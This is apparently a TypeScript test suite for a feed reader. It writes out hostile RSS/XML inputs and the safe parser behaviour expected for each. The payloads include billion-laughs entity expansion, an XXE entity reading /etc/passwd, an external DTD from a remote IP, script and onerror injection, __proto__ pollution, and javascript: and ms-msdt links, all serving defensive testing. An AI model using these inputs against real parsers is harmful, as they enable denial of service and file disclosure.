import { type ExpectedProblem, type HostileCase, inFolder } from '../hostile-case.ts';

const item = '<item><title>The bridge opens</title><pubDate>4 Sep 2015</pubDate></item>';
const rssOf = (inner: string): string => `<rss version="2.0"><channel>\n${inner}</channel></rss>`;
const hostile = 'hostile.rss';

/** A good feed beside one of another kind. */
function besideGood(text: () => string | Uint8Array, name = hostile): HostileCase['make'] {
  return (folder) => inFolder({ 'good.rss': rssOf(item), [name]: text() })(folder);
}

function goodAlone(...problems: readonly ExpectedProblem[]): HostileCase['expected'] {
  return { kind: 'read', events: 1, headlines: ['The bridge opens'], absent: ['Evil', 'root:'], problems };
}

const noDoctype = goodAlone({ file: hostile, says: 'document type' });
const evilItem = '<item><title>Evil</title><pubDate>4 Sep 2015</pubDate></item>';
const ownItem = (json: string): string =>
  `<item><daybook:event xmlns:daybook="urn:daybook:1"><![CDATA[${json}]]></daybook:event></item>`;

/** Feeds, and with them XML. */
export const feedCases: readonly HostileCase[] = [
  {
    id: 'X01',
    name: 'entities of entities that would grow to a billion texts',
    make: besideGood(() => {
      const levels = Array.from(
        { length: 9 },
        (_, at) => `<!ENTITY l${at} "${at === 0 ? 'Evil' : `&l${at - 1};`.repeat(10)}">`,
      );
      return `<!DOCTYPE rss [${levels.join('')}]>${rssOf('<item><title>&l8;</title></item>')}`;
    }),
    expected: noDoctype,
  },
  {
    id: 'X02',
    name: 'one entity of 50 KB, fifty thousand times',
    make: besideGood(
      () =>
        `<!DOCTYPE rss [<!ENTITY a "${'Evil '.repeat(10_000)}">]>${rssOf(`<item><title>${'&a;'.repeat(50_000)}</title></item>`)}`,
    ),
    expected: noDoctype,
  },
  {
    id: 'X03',
    name: 'an entity that is a file of the system, and a document type from the web',
    make: (folder) =>
      inFolder({
        'good.rss': rssOf(item),
        [hostile]: `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>${rssOf('<item><title>&x;</title></item>')}`,
        'web.rss': `<!DOCTYPE rss SYSTEM "http://198.51.100.9/evil.dtd">${rssOf(evilItem)}`,
      })(folder),
    expected: goodAlone({ file: hostile, says: 'document type' }, { file: 'web.rss', says: 'document type' }),
  },
  {
    id: 'X04',
    name: 'a thousand document types',
    make: besideGood(() => '<!DOCTYPE a>'.repeat(1000) + rssOf(evilItem)),
    expected: noDoctype,
  },
  {
    id: 'X05',
    name: 'an entity that stands for another one',
    make: besideGood(() => `<!DOCTYPE rss [<!ENTITY lt "<img onerror=Evil>">]>${rssOf(evilItem)}`),
    expected: noDoctype,
  },
  {
    id: 'X06',
    name: 'a title of two million numbered characters',
    make: besideGood(() => rssOf(`<item><title>${'&#65;'.repeat(2_000_000)}</title></item>`)),
    expected: goodAlone({ file: hostile, line: 2, says: 'is longer than' }),
  },
  {
    id: 'X07',
    name: 'a hundred thousand elements in each other',
    make: besideGood(() => rssOf('<a>'.repeat(100_000))),
    expected: goodAlone({ file: hostile, says: 'nested more than 64 deep' }),
  },
  {
    id: 'X08',
    name: 'scripts, frames and handlers in a text',
    make: besideGood(() => {
      const html = '<p>Rain<script>Evil()</script><img src=x onerror="Evil()"><iframe srcdoc="<b>Evil"></iframe></p>';
      return rssOf(
        `<item><title>Rain falls</title><description><![CDATA[${html}]]></description><pubDate>2015</pubDate></item>`,
      );
    }),
    expected: { kind: 'read', events: 2, headlines: ['Rain falls'] },
  },
  {
    id: 'X09',
    name: 'a feed that is cut off',
    make: besideGood(() => `<rss version="2.0"><channel>\n${item.replace('opens', 'closes')}<item><title>Evil`),
    expected: {
      kind: 'read',
      events: 2,
      headlines: ['The bridge closes'],
      absent: ['Evil'],
      problems: [{ file: hostile, line: 2, says: 'The XML is broken' }],
    },
  },
  {
    id: 'X10',
    name: 'events of Daybook’s own that lie: no date of a calendar, no id, __proto__, no JSON',
    make: besideGood(() =>
      rssOf(
        [
          ownItem('{"id":"x","record":"page","date":"2015-02-30","headline":"Evil"}'),
          ownItem('{"id":"","headline":"Evil"}'),
          ownItem('{"__proto__":{"headline":"Evil"}}'),
          ownItem('{'),
        ].join('\n'),
      ),
    ),
    expected: goodAlone({ file: hostile, line: 2, says: 'is no event' }, { line: 5, says: 'is not JSON' }),
  },
  {
    id: 'X11',
    name: 'dates that no calendar has',
    make: besideGood(() =>
      rssOf(
        ['30 Feb 2015', '0000-00-00', '-0001-01-01', '99999-01-01', 'yesterday']
          .map((date) => `<item><title>Evil</title><pubDate>${date}</pubDate></item>`)
          .join('\n'),
      ),
    ),
    expected: {
      kind: 'read',
      // Those without date say the same, and so they are one event.
      events: 2,
      problems: [
        { line: 2, says: '30 Feb 2015' },
        { line: 6, says: 'yesterday' },
      ],
    },
  },
  {
    id: 'X12',
    name: 'a feed in UTF-16, called .xml',
    make: besideGood(
      () => Buffer.from(`\ufeff${rssOf('<item><title>Zürich</title><pubDate>2015</pubDate></item>')}`, 'utf16le'),
      'hostile.xml',
    ),
    expected: { kind: 'read', events: 2, headlines: ['Zürich'] },
  },
  {
    id: 'X13',
    name: 'a page of the web, and nothing at all, called feeds',
    make: (folder) =>
      inFolder({ 'good.rss': rssOf(item), [hostile]: '<html><p>Evil</p></html>', 'empty.rss': '' })(folder),
    expected: goodAlone(
      { file: hostile, says: 'The file is no feed' },
      { file: 'empty.rss', says: 'The XML is broken' },
    ),
  },
  {
    id: 'X14',
    name: 'an element with two hundred thousand attributes',
    make: besideGood(() => rssOf(`<item ${Array.from({ length: 200_000 }, (_, at) => `a${at}="Evil"`).join(' ')}/>`)),
    expected: goodAlone({ file: hostile, says: '' }),
  },
  {
    id: 'X15',
    name: 'sources that are no addresses of the web',
    make: besideGood(() =>
      rssOf(
        ['javascript:Evil()', 'file:///etc/passwd', 'smb://h/s', '\\\\h\\s', 'ms-msdt:x', 'http://']
          .map(
            (link, at) =>
              `<item><title>Rain ${at}</title><link>${link}</link><guid>${at}</guid><pubDate>2015</pubDate></item>`,
          )
          .join('\n'),
      ),
    ),
    expected: { kind: 'read', events: 7, headlines: ['Rain 0'], absent: ['Evil', 'smb:', 'ms-msdt', 'file:///'] },
  },
];
